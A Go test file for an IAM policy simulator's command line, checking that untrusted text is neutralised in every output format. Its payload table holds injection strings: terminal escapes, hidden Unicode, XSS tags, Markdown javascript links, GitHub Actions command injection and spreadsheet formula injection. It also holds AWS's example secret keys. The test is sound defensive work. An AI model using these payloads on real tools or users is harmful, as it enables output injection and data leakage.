package main

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"errors"
	"io"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/iamsim/iamsim/internal/spelling"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

const accessKey = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"

// payloads are texts that somebody else could have chosen: a name, a part of an
// ARN, the value of a context key.
var payloads = map[string]string{
	"nothing":            "a",
	"terminal":           "a\x1b[2J\x1b]0;title\ab\x9bc",
	"direction":          "a\u202etxt.exe\u2066b\u2069",
	"no width":           "a\u200bb\u2060c\U000e0041",
	"a secret, coloured": "secret_key=\x1b[31m" + accessKey + "\x1b[0m",
	"a row":              "a\nforged  allowed  ok\r\nforged: proved",
	"GitHub":             "::error file=a::b",
	"GitHub, later":      "a\n::set-output name=a::b\n ##[add-path]a",
	"GitHub, anywhere":   "a ##[error]b",
	"HTML":               `a"'><script>alert(1)</script><img src=x onerror=alert(1)>`,
	"Markdown":           "a`<b>](javascript:alert(1)) | x | @team",
	"a formula":          `=HYPERLINK("https://a.test/?"&A1,"b")`,
	"a formula, later":   "\t+1|cmd",
	"a formula of rows":  "@SUM(1)\n=1,forged\r\n-1",
	"a secret":           accessKey,
	"a secret in JSON":   `{"SecretAccessKey":"` + accessKey + `"}`,
	"a secret, split":    "aws_secret_access_key=\n  " + accessKey,
	"a secret in a URL":  "s3://AKIAIOSFODNN7EXAMPLE:" + accessKey + "@bucket",
	"an environment":     "HOME=/a\nAWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE\nAWS_SECRET_ACCESS_KEY=" + accessKey + "\nPWD=/b",
}

// sinks are the ways in which the command prints what it was given; %s stands for
// the folder with the files of [write].
var sinks = map[string][]string{
	"eval":                     {"eval", "%s/scenario.json"},
	"eval, JSON":               {"eval", "-o", "json", "%s/scenario.json"},
	"eval, JSON lines":         {"eval", "-o", "jsonl", "%s/scenario.json"},
	"eval, CSV":                {"eval", "-o", "csv", "%s/scenario.json"},
	"eval, a wrong one, CSV":   {"eval", "-o", "csv", "%s/wrong.json"},
	"test, CSV":                {"test", "-o", "csv", "%s/scenario.json"},
	"test, JSON lines":         {"test", "-o", "jsonl", "%s/scenario.json"},
	"denied, HTML":             {"denied", "-o", "html", "%s/policy.json"},
	"new access":               {"prove", "new-access", "%s/policy.json", "%s/other.json"},
	"new access, JSON":         {"prove", "new-access", "-o", "json", "%s/policy.json", "%s/other.json"},
	"new access, Markdown":     {"prove", "new-access", "-o", "markdown", "%s/policy.json", "%s/other.json"},
	"new access, SARIF":        {"prove", "new-access", "-o", "sarif", "%s/policy.json", "%s/other.json"},
	"new access, GitHub":       {"prove", "new-access", "-o", "github", "%s/policy.json", "%s/other.json"},
	"equivalent, JSON":         {"prove", "equivalent", "-o", "json", "%s/policy.json", "%s/other.json"},
	"eval, a wrong one":        {"eval", "%s/wrong.json"},
	"eval, a wrong one, JSON":  {"eval", "-o", "json", "%s/wrong.json"},
	"explain":                  {"explain", "--all", "%s/scenario.json"},
	"explain, JSON":            {"explain", "--all", "--format", "json", "%s/scenario.json"},
	"explain, HTML":            {"explain", "--all", "--format", "html", "%s/scenario.json"},
	"denied":                   {"denied", "--all", "%s/policy.json"},
	"denied, JSON":             {"denied", "--output", "json", "%s/policy.json"},
	"redundant":                {"prove", "redundant", "%s/policy.json"},
	"redundant, JSON":          {"prove", "redundant", "-o", "json", "%s/policy.json"},
	"redundant, Markdown":      {"prove", "redundant", "-o", "markdown", "%s/policy.json"},
	"redundant, SARIF":         {"prove", "redundant", "-o", "sarif", "%s/policy.json"},
	"diff":                     {"diff", "%s/policy.json", "%s/other.json"},
	"diff, JSON":               {"diff", "-o", "json", "%s/policy.json", "%s/other.json"},
	"diff, Markdown":           {"diff", "-o", "markdown", "%s/policy.json", "%s/other.json"},
	"diff, SARIF":              {"diff", "-o", "sarif", "%s/policy.json", "%s/other.json"},
	"summarize":                {"summarize", "%s/policy.json"},
	"summarize, JSON":          {"summarize", "-o", "json", "%s/policy.json"},
	"summarize, Markdown":      {"summarize", "-o", "markdown", "%s/policy.json"},
	"summarize a change":       {"summarize", "--before", "%s/policy.json", "--after", "%s/other.json"},
	"validate":                 {"validate", "%s/policy.json"},
	"validate, JSON":           {"validate", "-o", "json", "%s/policy.json"},
	"validate, SARIF":          {"validate", "-o", "sarif", "%s/policy.json"},
	"validate, Markdown":       {"validate", "-o", "markdown", "%s/policy.json"},
	"validate, GitHub":         {"validate", "-o", "github", "%s/policy.json"},
	"diff, GitHub":             {"diff", "-o", "github", "%s/policy.json", "%s/other.json"},
	"redundant, GitHub":        {"prove", "redundant", "-o", "github", "%s/policy.json"},
	"validate, JUnit":          {"validate", "-o", "junit", "%s/policy.json"},
	"test":                     {"test", "%s/scenario.json"},
	"test, JSON":               {"test", "-o", "json", "%s/scenario.json"},
	"test, JUnit":              {"test", "-o", "junit", "%s/scenario.json"},
	"test, HTML":               {"test", "-o", "html", "%s/scenario.json"},
	"test, Markdown":           {"test", "-o", "markdown", "%s/scenario.json"},
	"a file that is not there": {"explain", "--format", "json", "%s/none"},
	"a flag":                   {"eval", "--payload"},
	"a form":                   {"eval", "-o", "payload", "%s/scenario.json"},
	"an action":                {"catalog", "action", "payload"},
	"a managed policy":         {"managed", "show", "payload"},
}

// write writes files that have the payload wherever text may stand, and gives the
// text of a denial that has it.
func write(t *testing.T, dir, payload string) (denial string) {
	quote := func(parts ...string) string {
		text, err := json.Marshal(strings.Join(parts, ""))
		require.NoError(t, err)
		return string(text)
	}
	part := payload
	if payload == accessKey {
		part = "x" // what is a part of an ARN is taken for a name
	}
	resource := quote("arn:aws:s3:::bucket/", part)
	document := func(action string) string {
		return `{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"` + action + `","Resource":` + resource + `},
			{"Sid":"A","Effect":"Deny","Action":"s3:*","Resource":` + resource + `,"Condition":{"StringEquals":{` + quote("aws:PrincipalTag/", part) + `:` + quote(payload) + `}}}]}`
	}
	for name, text := range map[string]string{
		"policy.json": document("s3:Get*"),
		"other.json":  document("s3:Put*"),
		"scenario.json": `{"name":` + quote(payload) + `,"request":{"principal":"arn:aws:iam::111122223333:user/a","action":"s3:GetObject","resource":` + resource +
			`,"context":{"aws:UserAgent":` + quote(payload) + `}},"policies":{"identity":["policy.json"]},"want":{"decision":"implicitDeny"}}`,
		"wrong.json": `{"name":` + quote(payload) + `,"request":{"principal":` + quote(payload) + `,"action":` + quote(payload) + `},` + quote(payload) + `:1}`,
	} {
		require.NoError(t, os.WriteFile(filepath.Join(dir, name), []byte(text), 0o600))
	}
	return "User: arn:aws:iam::111122223333:user/a is not authorized to perform: s3:GetObject on resource: \"arn:aws:s3:::bucket/" + part +
		"\" because no identity-based policy allows the s3:GetObject action\n" + payload + "\n"
}

func TestNothingFromOutsideIsObeyedWhereItIsPrinted(t *testing.T) {
	for name, payload := range payloads {
		dir := t.TempDir()
		denial := write(t, dir, payload)
		for sink, args := range sinks {
			t.Run(name+"/"+sink, func(t *testing.T) {
				var given []string
				for _, arg := range args {
					arg = strings.ReplaceAll(arg, "%s", dir)
					given = append(given, strings.ReplaceAll(strings.ReplaceAll(arg, "payload", payload), "/none", "/none"+strings.ReplaceAll(payload, "/", "-")))
				}
				stdout, stderr, status := ran(t, denial, given...)
				if wrong := strings.HasPrefix(sink, "a ") || strings.Contains(sink, "a wrong one"); name == "nothing" {
					assert.Equal(t, wrong, status == int(broken), stderr)
				}
				assert.True(t, strings.Contains(sink, "GitHub") || stdout+stderr != "")
				isHarmless(t, sink, stdout, stderr)
			})
		}
	}
}

// ran runs the command in this process, with a text on standard input.
func ran(t *testing.T, stdin string, args ...string) (stdout, stderr string, status int) {
	t.Helper()
	to, err := os.Create(filepath.Join(t.TempDir(), "stdout"))
	require.NoError(t, err)
	defer to.Close()
	var errors strings.Builder
	out := newScreen()
	out.File = to
	root := rootCommand(out)
	root.SetArgs(args)
	root.SetIn(strings.NewReader(stdin))
	root.SetErr(&errors)
	status = run(root, out)
	text, err := os.ReadFile(to.Name())
	require.NoError(t, err)
	return string(text), errors.String(), status
}

// isHarmless: what was printed has the form that the sink has, and does nothing.
func isHarmless(t *testing.T, sink, stdout, stderr string) {
	t.Helper()
	for _, text := range []string{stdout, stderr} {
		if strings.Contains(sink, "GitHub") {
			text = withoutAnnotations(text)
		}
		isPlain(t, text)
		assert.False(t, !strings.Contains(sink, "HTML") && forged.MatchString(text), text)
	}
	switch {
	case strings.Contains(sink, "JSON") || strings.Contains(sink, "SARIF") || sink == "a file that is not there":
		isJSON(t, []byte(stdout))
	case strings.Contains(sink, "CSV"):
		isCSV(t, stdout)
	case strings.Contains(sink, "JUnit"):
		isXML(t, stdout)
	case strings.Contains(sink, "HTML") && stdout != "":
		isPage(t, stdout)
	case strings.Contains(sink, "Markdown"):
		isMarkdown(t, stdout)
	}
}

// forged is what stands at the beginning of a line if a payload has begun one.
var forged = regexp.MustCompile(`(?m)^forged`)

func isPlain(t *testing.T, text string) {
	t.Helper()
	assert.NotContains(t, text, accessKey)
	assert.NotContains(t, text, "##[")
	for line := range strings.SplitSeq(text, "\n") {
		assert.Equal(t, spelling.Shown(line), line)
		assert.NotContains(t, line, "\u200b")
		bare := strings.TrimSpace(line)
		assert.False(t, strings.HasPrefix(bare, "::"), line)
	}
}

// withoutAnnotations is a text without what begins the annotations of ours.
func withoutAnnotations(text string) string { return annotation.ReplaceAllString(text, "") }

var annotation = regexp.MustCompile(`(?m)^::(?:error|warning|notice) file=[^,:\n]*,line=\d+,col=\d+(?:,endLine=\d+(?:,endColumn=\d+)?)?,title=[\w-]+::`)

func isJSON(t *testing.T, text []byte) {
	t.Helper()
	assert.NotEmpty(t, text, "an error is a document, too")
	for d := json.NewDecoder(bytes.NewReader(text)); ; {
		var value any
		if err := d.Decode(&value); err != nil {
			assert.ErrorIs(t, err, io.EOF, "%s", text)
			return
		}
	}
}

// isCSV: a row is a line, and no cell is a formula.
func isCSV(t *testing.T, text string) {
	t.Helper()
	rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	require.NoError(t, err)
	assert.Len(t, rows, strings.Count(text, "\n"))
	for _, row := range rows {
		for _, cell := range row {
			assert.NotRegexp(t, `^\s*[=+@-]`, cell)
		}
	}
}

// isXML: there is a document, and its elements are closed.
func isXML(t *testing.T, text string) {
	t.Helper()
	assert.NotEmpty(t, text, "an error is a document, too")
	assert.NoError(t, xml.Unmarshal([]byte(text), new(struct{ XMLName xml.Name })), "%s", text)
}

// isPage: the page is well-formed, with the elements of ours alone.
func isPage(t *testing.T, text string) {
	t.Helper()
	assert.NotContains(t, text, "<script>alert")
	assert.NotContains(t, text, "<img")
	d := xml.NewDecoder(strings.NewReader(text))
	d.Strict, d.AutoClose, d.Entity = false, xml.HTMLAutoClose, xml.HTMLEntity
	for {
		token, err := d.Token()
		if errors.Is(err, io.EOF) {
			return
		}
		if !assert.NoError(t, err) {
			return
		}
		if e, ok := token.(xml.StartElement); ok {
			for _, a := range e.Attr {
				assert.NotEqual(t, "onerror", a.Name.Local)
			}
		}
	}
}

// ours are the elements that our Markdown has.
var ours = strings.NewReplacer("<details><summary>", "", "</summary>", "", "</details>", "")

// isMarkdown: outside code there is nothing of the payload.
func isMarkdown(t *testing.T, text string) {
	t.Helper()
	for line := range strings.SplitSeq(text, "\n") {
		bare := ours.Replace(withoutCode(line))
		for _, active := range []string{"<", "](", "@team"} {
			assert.NotContains(t, bare, active, line)
		}
	}
}

// withoutCode is a line of Markdown without its spans of code, which end with as
// many backquotes as they begin with.
func withoutCode(line string) string {
	var b strings.Builder
	for {
		begin := strings.IndexByte(line, '`')
		if begin < 0 {
			return b.String() + line
		}
		b.WriteString(line[:begin])
		rest := strings.TrimLeft(line[begin:], "`")
		fence := line[begin : len(line)-len(rest)]
		end := -1
		for at := 0; at < len(rest); {
			i := strings.IndexByte(rest[at:], '`')
			if i < 0 {
				break
			}
			run := len(rest[at+i:]) - len(strings.TrimLeft(rest[at+i:], "`"))
			if run == len(fence) {
				end = at + i + run
				break
			}
			at += i + run
		}
		if end < 0 {
			return b.String() + fence + rest
		}
		line = rest[end:]
	}
}
